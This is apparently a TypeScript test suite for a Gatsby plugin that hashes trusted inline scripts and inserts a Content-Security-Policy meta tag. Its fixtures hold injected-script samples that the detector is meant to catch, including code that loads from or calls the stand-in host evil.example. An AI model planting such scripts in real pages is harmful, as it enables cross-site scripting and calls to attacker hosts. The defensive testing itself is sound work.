import { createHash } from "node:crypto";
import {
  pageScripts,
  policyMeta,
  scriptHashes,
  untrustedMarkup,
  withPagePolicy,
} from "../../../plugins/site-host/page-policy";

/** Gatsby's three inline scripts, in the forms they take in a built page. */
const LOADER = '/*<![CDATA[*/window.pagePath="/home/";/*]]>*/';
const CHUNKS = '\n  window.___chunkMapping="{\\"app\\":[\\"/app-0123.js\\"]}";\n';
const BUILD_HASH = 'window.___webpackCompilationHash="d149f4cc0fd2fd4dd91c";';

const page = (scripts: string) =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><meta name="viewport" content="width=device-width"/>
<script src="/app-0123456789abcdef0123.js"></script>
<script type="application/ld+json">{"@context":"https://schema.org"}</script>
</head><body><div id="___gatsby"></div>${scripts}</body></html>`;

const gatsbyScripts = `<script id="gatsby-script-loader">${LOADER}</script><script id="gatsby-chunk-mapping">${CHUNKS}</script><script>${BUILD_HASH}</script>`;
const html = page(gatsbyScripts);

const hash = (body: string) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`;

/** A stand-in for the site's policy: the hashes, so a test can read back which ones it was given. */
const policyFor = (hashes: readonly string[]) => `script-src 'self' ${hashes.join(" ")}`.trim();

const metaCount = (text: string) => text.split('http-equiv="Content-Security-Policy"').length - 1;

describe("pageScripts and scriptHashes", () => {
  it("returns executable inline scripts only: not external ones, not JSON data blocks", () => {
    expect(pageScripts(html).map((script) => script.body)).toEqual([LOADER, CHUNKS, BUILD_HASH]);
  });

  it("hashes each trusted inline script once, as CSP computes it over the exact text", () => {
    const twice = page(gatsbyScripts + `<script>${BUILD_HASH}</script>`);
    expect(scriptHashes(twice)).toEqual([LOADER, CHUNKS, BUILD_HASH].map(hash).sort());
  });

  it("hashes no script the site's code and Gatsby did not write", () => {
    const injected = page(
      `${gatsbyScripts}<script>alert(1)</script><script id="gatsby-chunk-mapping">alert(2)</script>`,
    );
    expect(scriptHashes(injected)).toEqual(scriptHashes(html));
  });
});

describe("untrustedMarkup", () => {
  it("finds nothing in a page of the site's and Gatsby's own scripts", () => {
    expect(untrustedMarkup(html)).toEqual([]);
  });

  it.each([
    ["a script in the body", "<p>Hi</p><script>alert(1)</script>", /inline <script> in its <body>: "alert\(1\)"/],
    ["a module script", '<script type="module">import("https://evil.example/x.js")</script>', /inline <script>/],
    ["a script with an id of its own", '<script id="web-fonts-switch">alert(1)</script>', /in its <body>/],
    [
      "Gatsby's id with other code",
      '<script id="gatsby-script-loader">window.pagePath="/";alert(1)</script>',
      /inline/,
    ],
    [
      "code after Gatsby's code map",
      '<script id="gatsby-chunk-mapping">window.___chunkMapping="{}";fetch("//evil.example")</script>',
      /inline/,
    ],
  ])("names %s with its line", (_name, markup, expected) => {
    const found = untrustedMarkup(page(gatsbyScripts + markup));
    expect(found).toHaveLength(1);
    expect(found[0].line).toBe(6);
    expect(`${found[0].what}: ${JSON.stringify(found[0].text)}`).toMatch(expected);
  });

  it("is not fooled by script-like text in attributes and comments", () => {
    const quoted = page(
      `${gatsbyScripts}<meta name="description" content="&lt;script&gt;alert(1)&lt;/script&gt; onload=x"/><!-- <script>alert(1)</script> -->`,
    );
    expect(untrustedMarkup(quoted)).toEqual([]);
    expect(scriptHashes(quoted)).toEqual(scriptHashes(html));
  });
});

describe("withPagePolicy", () => {
  const built = withPagePolicy(html, policyFor);

  it("puts the page's policy first in its <head>, after the character set", () => {
    expect(built).toContain(
      `<head><meta charSet="utf-8"/>${policyMeta(policyFor(scriptHashes(html)))}<meta name="viewport"`,
    );
    expect(metaCount(built)).toBe(1);
  });

  it("puts it straight after <head> when the page declares no character set there", () => {
    const bare = `<html><head><title>t</title><script>${BUILD_HASH}</script></head><body></body></html>`;
    expect(withPagePolicy(bare, policyFor)).toMatch(
      /^<html><head><meta http-equiv="Content-Security-Policy"[^>]*><title>/,
    );
  });

  it("gives the same page when run again: the policy is replaced, not added", () => {
    expect(withPagePolicy(built, policyFor)).toBe(built);
  });

  it("replaces a stale policy with the one for the scripts the page has now", () => {
    // Gatsby stitched new scripts into a page kept from an earlier build, policy and all.
    const newHash = BUILD_HASH.replace("d149", "e250");
    const rebuilt = withPagePolicy(built.replace(BUILD_HASH, newHash), policyFor);
    expect(rebuilt).not.toContain(hash(BUILD_HASH));
    expect(rebuilt).toBe(withPagePolicy(html.replace(BUILD_HASH, newHash), policyFor));
  });

  it("removes any other policy <meta>, wherever it is and however it is written", () => {
    const extra = html.replace("</head>", `<META content="script-src *" HTTP-EQUIV='content-security-policy'></head>`);
    expect(withPagePolicy(extra, policyFor)).toBe(built);
  });

  it("escapes the policy for its attribute", () => {
    const odd = withPagePolicy(html, () => `frame-src https://a.example?x="1"&y=<2>`);
    expect(odd).toContain('content="frame-src https://a.example?x=&quot;1&quot;&amp;y=&lt;2&gt;"');
  });

  it("refuses a page without a <head>", () => {
    expect(() => withPagePolicy("<p>fragment</p>", policyFor)).toThrow(/no <head>/);
  });
});
